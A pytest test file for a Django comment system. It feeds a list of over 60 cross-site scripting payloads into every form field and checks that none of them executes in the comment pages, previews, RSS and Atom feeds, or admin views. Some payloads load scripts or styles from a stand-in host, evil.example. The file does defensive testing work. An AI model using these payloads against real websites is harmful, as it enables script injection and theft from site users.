"""Script injection through every field of the form, read back everywhere it is shown."""

import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse

from comments.models import Comment
from moderation.models import Status
from tests.comments.helpers import send
from tests.comments.inert import problems

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="http://ok.example" onclick="alert(1)">x</a>',
    '<a href="http://ok.example" style="position:fixed;top:0;left:0;width:100%">x</a>',
    "<b onmouseover=alert(1)>bold</b>",
    "<code onclick=alert(1)>c</code>",
    "<q cite=javascript:alert(1)>q</q>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=http://evil.example/>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</li></ol></section><script>alert(1)</script>",
    "]]></description><script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'http://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    "www.ok.example/'><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "\uff1cscript\uff1ealert(2)\uff1c/script\uff1e",
    '<a href="http://ok.example"><img src=x onerror=alert(1)></a>',
    '"<script>alert(1)</script>"@example.com',
    "{{ request }}{% debug %}",
]
FIELDS = ["name", "email", "url", "text"]
VALID = {
    "name": "Hanako",
    "email": "hanako@example.com",
    "url": "https://hanako.example/",
    "text": "Plain text.",
}


def test_there_are_at_least_fifty_payloads():
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick=x>",
        '<a href=" JavaScript:x">',
        "<img src=x>",
        "<div style=x>",
        '<meta http-equiv="refresh">',
    ],
)
def test_the_checker_catches_what_it_looks_for(html):
    assert problems(html)


def feed_html(xml: str) -> str:
    """The HTML parts of a feed (titles and names are plain text, escaped by the XML)."""
    root = ET.fromstring(xml)
    parts = [
        el.text or ""
        for el in root.iter()
        if el.tag.split("}")[-1] in ("description", "summary", "content")
    ]
    return "\n".join(parts)


@pytest.mark.parametrize("field", FIELDS)
def test_payloads_in_every_field_never_run(client, author, post, field):
    rejected = 0
    for n, payload in enumerate(PAYLOADS):
        data = {**VALID, "text": f"{VALID['text']} {n}", field: payload}
        if field == "text":
            data["text"] = payload
        response = send(client, post, **data)
        assert response.status_code in (302, 400), payload
        if response.status_code == 400:
            rejected += 1
            assert problems(response.content.decode()) == [], payload
        preview = send(client, post, preview="1", **data)
        assert problems(preview.content.decode()) == [], payload
    Comment.objects.update(status=Status.APPROVED)
    stored = Comment.objects.count()
    assert stored + rejected == len(PAYLOADS)

    page = client.get(post.get_absolute_url()).content.decode()
    assert page.count('class="comment"') == stored
    assert problems(page) == []

    for name in ("comments:feed-rss", "comments:feed-atom"):
        xml = client.get(reverse(name)).content.decode()
        assert problems(feed_html(xml)) == [], name
    post_feed = reverse("comments:post-feed-atom", kwargs={"post_id": post.pk})
    assert problems(feed_html(client.get(post_feed).content.decode())) == []

    client.force_login(author)
    admin_list = client.get(reverse("admin:comments_comment_changelist") + "?status=all")
    assert problems(admin_list.content.decode(), admin=True) == []
    for comment in Comment.objects.all()[:15]:
        change = client.get(reverse("admin:comments_comment_change", args=[comment.pk]))
        assert problems(change.content.decode(), admin=True) == [], comment.text
